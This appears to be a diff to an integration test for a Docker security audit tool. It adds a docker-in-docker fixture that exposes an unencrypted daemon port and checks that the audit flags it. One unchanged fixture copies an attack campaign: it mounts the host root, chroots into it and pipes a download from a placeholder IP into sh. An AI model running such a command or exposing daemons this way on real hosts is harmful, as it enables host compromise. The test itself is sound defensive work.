@@ -11,7 +11,7 @@ import type { Finding } from '../../../src/core/report/finding.js';
 const lab = labFromEnv();
 const NAMES = ['pcl-audit-priv', 'pcl-audit-sock', 'pcl-audit-renamed', 'pcl-audit-root', 'pcl-audit-capall',
   'pcl-audit-pidhost', 'pcl-audit-restart', 'pcl-audit-port', 'pcl-audit-labdir', 'pcl-audit-plain', 'pcl-audit-campaign',
-  'pcl-audit-sockpub', 'pcl-audit-sockhost'];
+  'pcl-audit-sockpub', 'pcl-audit-sockhost', 'pcl-audit-dind'];
 const BASE = ['--label', 'portcullis.test=audit'];
 let exposure: Exposure;
 let result: AuditResult;
@@ -52,6 +52,9 @@ beforeAll(async () => {
   // Socket proxies: the socket plus a published port (bridge, loopback) or the host network with an exposed port.
   create('pcl-audit-sockpub', ['-p', '127.0.0.1:12375:2375', '-v', `${lab.socketPath}:/var/run/docker.sock`, '-e', 'POST=1']);
   create('pcl-audit-sockhost', ['--network', 'host', '--expose', '2375', '-v', `${lab.socketPath}:/var/run/docker.sock:ro`]);
+  // Docker-in-docker with TLS turned off, its 2375 published on loopback (the entrypoint is what marks it).
+  docker(lab, ['create', '--name', 'pcl-audit-dind', ...BASE, '--entrypoint', 'dockerd-entrypoint.sh', '-e', 'DOCKER_TLS_CERTDIR=',
+    '-p', '127.0.0.1:12376:2375', 'alpine:latest']);
   // The campaign's shape, created and never started: host root at /mnt, chroot, a download piped into sh.
   docker(lab, ['create', '--name', 'pcl-audit-campaign', ...BASE, '--network', 'none', '-v', '/:/mnt', 'alpine:latest',
     'chroot', '/mnt', 'sh', '-c', 'curl -s http://198.51.100.9/x.sh | sh']);
@@ -102,6 +105,13 @@ describe('portcullis audit against the lab engine on a loopback TCP port', () =>
     const host = result.report.findings.find((f) => f.ruleId === 'PCL-EXP-003' && f.target === 'tcp://*:2375' && /pcl-audit-sockhost/.test(f.message));
     expect(host?.severity).toBe('critical');
     expect(result.summary.routes).toEqual(expect.arrayContaining(['PCL-EXP-003 tcp://127.0.0.1:12375', 'PCL-EXP-003 tcp://*:2375']));
+  });
+
+  it('flags a docker-in-docker container that publishes its plaintext 2375', () => {
+    const f = result.report.findings.find((x) => x.ruleId === 'PCL-EXP-001' && x.target === 'tcp://127.0.0.1:12376');
+    expect(f?.severity).toBe('high');
+    expect(f?.message).toMatch(/^container pcl-audit-dind \([0-9a-f]{12}\) \(created, image alpine:latest\) runs a Docker daemon and publishes it without TLS at 127\.0\.0\.1:12376 \(DOCKER_TLS_CERTDIR is empty\)/);
+    expect(f?.evidence.map((e) => e.value)).toEqual(['{"HostIp":"127.0.0.1","HostPort":"12376"}', 'DOCKER_TLS_CERTDIR=']);
   });
 
   it('flags / mounted, cap-add ALL, pid=host, restart always and a port on 0.0.0.0', () => {
